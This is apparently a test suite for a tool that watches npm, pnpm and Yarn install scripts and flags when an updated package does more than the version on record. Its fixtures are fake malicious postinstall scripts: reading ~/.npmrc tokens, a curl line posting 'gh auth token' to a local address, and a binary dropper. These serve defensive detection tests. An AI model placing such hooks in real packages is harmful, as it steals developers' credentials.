import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, globSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { delimiter, dirname, join } from 'node:path';
import { describe, it } from 'node:test';
import { inventory } from '../../src/cli/installed.ts';
import { AppFolder } from '../support/app-folder.ts';
import { type CliResult, cli } from '../support/cli.ts';
import { oldPnpm, packageManagers } from '../support/registry-packages.ts';

const LOCK = 'diogenesis.lock.json';
const QUIET = 'require("node:path")';
const TELLS = "require('node:fs').writeFileSync(require('node:os').tmpdir() + '/thief-was-here', '')";
const STEALS = "try { require('node:fs').readFileSync(require('node:os').homedir() + '/.npmrc') } catch {}";

interface Manager {
  readonly name: string;
  /** Main script below the cached node_modules; the one on PATH without it. */
  readonly script?: string;
  readonly modules?: typeof packageManagers;
  readonly install: readonly string[];
  /** Writes the lock file of the update, where the command below needs one. */
  readonly resolve?: readonly string[];
  readonly update: readonly string[];
  readonly files?: Readonly<Record<string, string>>;
}

const MANAGERS: readonly Manager[] = [
  {
    name: 'npm',
    install: ['npm', 'install', '--offline', '--no-audit', '--no-fund'],
    resolve: ['npm', 'install', '--offline', '--no-audit', '--no-fund', '--package-lock-only'],
    update: ['npm', 'ci', '--offline', '--no-audit', '--no-fund'],
  },
  {
    name: 'pnpm',
    script: 'pnpm/bin/pnpm.mjs',
    install: ['install', '--offline'],
    update: ['install', '--offline'],
    files: { 'pnpm-workspace.yaml': 'dangerouslyAllowAllBuilds: true\nsideEffectsCache: false\n' },
  },
  {
    name: 'pnpm 10, written in JavaScript',
    script: 'pnpm/bin/pnpm.cjs',
    modules: oldPnpm,
    install: ['install', '--offline'],
    update: ['install', '--offline'],
    files: { 'pnpm-workspace.yaml': 'dangerouslyAllowAllBuilds: true\nsideEffectsCache: false\n' },
  },
  {
    name: 'Yarn 1',
    script: 'yarn/bin/yarn.js',
    install: ['install', '--offline'],
    update: ['install', '--offline'],
  },
  {
    name: 'Yarn Berry',
    script: '@yarnpkg/cli-dist/bin/yarn.js',
    install: ['install'],
    update: ['install'],
    files: { '.yarnrc.yml': 'nodeLinker: node-modules\nenableTelemetry: false\nenableScripts: true\n' },
  },
];

interface Project extends AppFolder {
  /** Makes a tarball of a package with a postinstall script; answers its name. */
  pack(name: string, version: string, script: string, command?: string): string;
  depend(tarballs: Readonly<Record<string, string>>): void;
  run(...args: string[]): Promise<CliResult>;
}

function makeProject({ files }: Manager): Project {
  const app = new AppFolder();
  app.write('home/.npmrc', '//registry.example/:_authToken=secret');
  app.write('tmp/x', '');
  for (const [file, text] of Object.entries(files ?? {})) app.write(`app/${file}`, text);
  return Object.assign(app, {
    pack(name: string, version: string, script: string, command = 'node install.js') {
      const at = `packages/${name}-${version}`;
      app.write(`${at}/package.json`, JSON.stringify({ name, version, scripts: { postinstall: command } }));
      app.write(`${at}/install.js`, script);
      // As `npm pack` does it: everything below one folder, `package`.
      const tarball = `${name}-${version}.tgz`;
      execFileSync('tar', ['-czf', app.path(tarball), '--transform', 's,^\\.,package,', '-C', app.path(at), '.']);
      return tarball;
    },
    depend(tarballs: Readonly<Record<string, string>>) {
      const names = Object.entries(tarballs);
      const manifest = {
        name: 'app',
        version: '1.0.0',
        license: 'MIT',
        dependencies: Object.fromEntries(names.map(([name, tarball]) => [name, `file:../${tarball}`])),
        dependenciesMeta: Object.fromEntries(names.map(([name]) => [name, { built: true }])),
      };
      app.write('app/package.json', JSON.stringify(manifest));
    },
    run(...args: string[]) {
      const env = {
        HOME: app.path('home'),
        TMPDIR: app.path('tmp'),
        PATH: [dirname(process.execPath), process.env.PATH].join(delimiter),
        npm_config_userconfig: app.path('none'),
        npm_config_update_notifier: 'false',
        npm_config_dangerously_allow_all_scripts: 'true',
        // Only the tarballs beside it: nothing is to be asked of a registry.
        YARN_ENABLE_NETWORK: 'false',
        YARN_CACHE_FOLDER: app.path('home/.yarn'),
      };
      return cli(args, { cwd: app.path('app'), env });
    },
  });
}

describe('an installation is held to the lock file, script by script, with', () => {
  for (const manager of MANAGERS) {
    it(manager.name, async (context) => {
      const { script, modules = packageManagers } = manager;
      const found = script === undefined ? { modules: '' } : await modules();
      if ('missing' in found) return context.skip(found.missing);
      const own = script === undefined ? [] : ['node', join(found.modules, script)];
      using app = makeProject(manager);
      app.depend({
        helper: app.pack('helper', '1.0.0', QUIET),
        settled: app.pack('settled', '1.0.0', TELLS),
      });
      const learned = await app.run('learn', '--', ...own, ...manager.install);
      assert.equal(learned.code, 0, learned.stdout + learned.stderr);
      const lock = JSON.parse(readFileSync(app.path(`app/${LOCK}`), 'utf8'));
      // Not the package manager, and not an application that does nothing while its dependencies are installed.
      assert.deepEqual(Object.keys(lock.packages), ['helper@1.0.0', 'settled@1.0.0']);

      // The update steals; a known package does something dangerous as well; a third one is new and mostly harmless.
      app.pack('settled', '1.0.0', STEALS);
      app.depend({
        helper: app.pack('helper', '1.0.1', STEALS),
        added: app.pack('added', '2.0.0', TELLS),
        settled: 'settled-1.0.0.tgz',
      });
      for (const file of ['package-lock.json', 'pnpm-lock.yaml', 'yarn.lock', 'node_modules'])
        rmSync(app.path(`app/${file}`), { recursive: true, force: true });
      for (const file of globSync('home/{.yarn,.cache,.npm,.local}', { cwd: app.root }))
        rmSync(app.path(file), { recursive: true, force: true });
      if (manager.resolve !== undefined) {
        const resolved = await app.run('run', '--quiet', '--', ...own, ...manager.resolve);
        assert.equal(resolved.code, 0, resolved.stdout + resolved.stderr);
      }
      const out = app.path('report.json');
      const checked = await app.run('check', '--format', 'json', '--output', out, '--', ...own, ...manager.update);
      assert.equal(checked.code, 3, checked.stdout + checked.stderr);
      const report = JSON.parse(readFileSync(out, 'utf8'));
      assert.deepEqual(
        report.packages.map((entry: Record<string, unknown>) => [entry.package, entry.scripts, entry.against]),
        [
          ['helper@1.0.1', ['postinstall'], 'helper@1.0.0'],
          ['added@2.0.0', ['postinstall'], null],
          ['settled@1.0.0', ['postinstall'], 'settled@1.0.0'],
        ],
      );
      const traits = report.packages[0].unreviewed.map(({ trait }: { trait: string }) => trait);
      assert(traits.includes('fs.read:<home>/.npmrc [credential]'), traits);
      assert.match(checked.stderr, /ALERT helper@1\.0\.1 does more than helper@1\.0\.0 in its postinstall script\n/);
      // The static part reads what this very package manager has written.
      assert.deepEqual([...inventory(app.path('app')).keys].sort(), ['added@2.0.0', 'helper@1.0.1', 'settled@1.0.0']);
    });
  }
});

describe('an install script without any JavaScript', () => {
  it('is the work of the package that is being installed, not of the package manager', async () => {
    using app = makeProject({ name: 'npm', install: [], update: [] });
    const findings = app.path('findings.jsonl');
    app.depend({ shelly: app.pack('shelly', '1.0.0', '', 'true || curl -d "$(gh auth token)" http://127.0.0.1:9/') });
    const install = ['npm', 'install', '--offline', '--no-audit', '--no-fund'];
    const { code, stderr } = await app.run('run', '--findings', findings, '--', ...install);
    assert.equal(code, 0, stderr);
    const told = readFileSync(findings, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    const [alert] = told.filter(({ level }) => level === 'ALERT');
    assert.deepEqual([alert.package.name, alert.pattern], ['shelly', 'data_exfiltration']);
    assert.deepEqual([...new Set(told.map(({ package: { name } }) => name))], ['shelly']);
  });
});

describe('a program started by a script of npm', () => {
  it('is judged like any other: the environment of the script says nothing about it', async () => {
    using app = makeProject({ name: 'npm', install: [], update: [] });
    const findings = app.path('findings.jsonl');
    app.write('tmp/tool', '#!/bin/sh\n');
    const script = `const fs = require('node:fs'), at = require('node:os').tmpdir() + '/tool2';
      fs.copyFileSync(at.slice(0, -1), at); fs.chmodSync(at, 0o755); require('node:child_process').spawnSync(at);`;
    app.depend({ dropper: app.pack('dropper', '1.0.0', script) });
    const install = ['npm', 'install', '--offline', '--no-audit', '--no-fund'];
    const { code, stderr } = await app.run('run', '--findings', findings, '--', ...install);
    assert.equal(code, 0, stderr);
    const told = readFileSync(findings, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    const [alert] = told.filter(({ level }) => level === 'ALERT');
    assert.deepEqual([alert?.package.name, alert?.pattern], ['dropper', 'privilege_escalation']);
  });
});

/** A Node on this machine that is older than we can be. */
function oldNode(): string | undefined {
  for (const folder of [...(process.env.PATH ?? '').split(delimiter), '/usr/bin', '/usr/local/bin']) {
    const node = join(folder, 'node');
    if (!existsSync(node)) continue;
    const [major = 0, minor = 0] = execFileSync(node, ['--version'], { encoding: 'utf8' })
      .slice(1)
      .split('.')
      .map(Number);
    if (major < 22 || (major === 22 && minor < 15)) return node;
  }
  return undefined;
}

describe('a Node that is too old', () => {
  it('runs untouched in an installation, with one line that says so', async (context) => {
    const old = oldNode();
    if (old === undefined) return context.skip('no Node older than 22.15 on this machine');
    using app = makeProject({ name: 'npm', install: [], update: [] });
    const result = app.path('result.json');
    app.depend({
      elder: app.pack(
        'elder',
        '1.0.0',
        `const fs = require('node:fs');
        fs.writeFileSync(${JSON.stringify(result)}, JSON.stringify([process.version, fs.readFileSync.toString().includes('[native code]'), fs.readFileSync.name]))`,
        `${old} install.js`,
      ),
    });
    // That its script is started is npm's doing and seen there; what the old Node does in it is not.
    const packages = { 'elder@1.0.0': { state: 'stable', traits: ['process.spawn:sh [shell]'] } };
    writeFileSync(app.path(`app/${LOCK}`), JSON.stringify({ lockfileVersion: 1, packages, tools: {} }));
    const install = ['npm', 'install', '--offline', '--no-audit', '--no-fund', '--foreground-scripts'];
    const { code, stderr } = await app.run('check', '--', ...install);
    assert.equal(code, 0, stderr);
    const version = execFileSync(old, ['--version'], { encoding: 'utf8' }).trim();
    assert.deepEqual(JSON.parse(readFileSync(result, 'utf8')), [version, false, 'readFileSync']);
    const line = `diogenesis: not active: needs Node >= 22.15, this is ${version.slice(1)}`;
    assert.deepEqual(
      stderr.split('\n').filter((one) => one.includes('not active')),
      [line],
    );
  });
});
